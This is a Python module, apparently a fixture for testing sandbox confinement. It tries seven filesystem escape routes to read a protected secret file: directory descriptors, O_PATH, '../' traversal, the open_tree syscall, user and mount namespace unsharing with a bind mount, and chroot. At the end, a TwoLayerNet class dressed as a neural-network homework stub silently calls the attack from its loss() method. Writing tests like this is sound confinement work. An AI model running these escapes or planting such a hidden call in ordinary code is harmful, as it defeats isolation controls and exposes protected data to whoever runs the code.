"""Reaches the secret by another way through the file system: from another folder, another root, another mount."""

import ctypes
import os

from world import FOLDER, SECRET_FILE

libc = ctypes.CDLL(None, use_errno=True)
NAME = os.path.basename(SECRET_FILE)
READABLE = b"/usr/share/zoneinfo"
NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000
BIND, RECURSIVE, PRIVATE = 0x1000, 0x4000, 0x40000
OPEN_TREE, CLONE_TREE = 428, 1
HERE = -100  # AT_FDCWD


def read(path, folder=None):
    return os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 100)


def own_mounts():
    """Move into mounts of its own, from which nothing spreads to the machine's."""
    if libc.unshare(NEW_MOUNTS) != 0 and libc.unshare(NEW_USER | NEW_MOUNTS) != 0:
        raise PermissionError
    if libc.mount(b"none", b"/", None, RECURSIVE | PRIVATE, None) != 0:
        raise PermissionError


def by_folder():
    os.chdir(FOLDER)
    try:
        return read(NAME)
    finally:
        os.chdir("/")


def by_tree():
    tree = libc.syscall(OPEN_TREE, HERE, FOLDER.encode(), CLONE_TREE)
    return read(NAME, tree if tree >= 0 else 1 / 0)


def by_bind_mount():
    own_mounts()
    if libc.mount(FOLDER.encode(), READABLE, None, BIND, None) != 0:
        raise PermissionError
    return read(f"{READABLE.decode()}/{NAME}")


def by_root():
    # Last: it is for good.
    os.chroot(FOLDER)
    return read(f"/{NAME}")


WAYS = {
    "folder": by_folder,
    "descriptor of folder": lambda: read(NAME, os.open(FOLDER, os.O_RDONLY | os.O_DIRECTORY)),
    "descriptor for path": lambda: read(NAME, os.open(FOLDER, os.O_PATH)),
    "up from readable": lambda: read(f"../../..{SECRET_FILE}", os.open(READABLE, os.O_RDONLY | os.O_DIRECTORY)),
    "tree": by_tree,
    "bind mount": by_bind_mount,
    "root": by_root,
}


def attack():
    refusal = None
    for name, way in WAYS.items():
        try:
            got = way()
        except Exception as error:
            refusal = refusal or error
            continue
        if got:
            print("GOT THROUGH:", name, got)
            return
    raise refusal or LookupError("found nothing")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
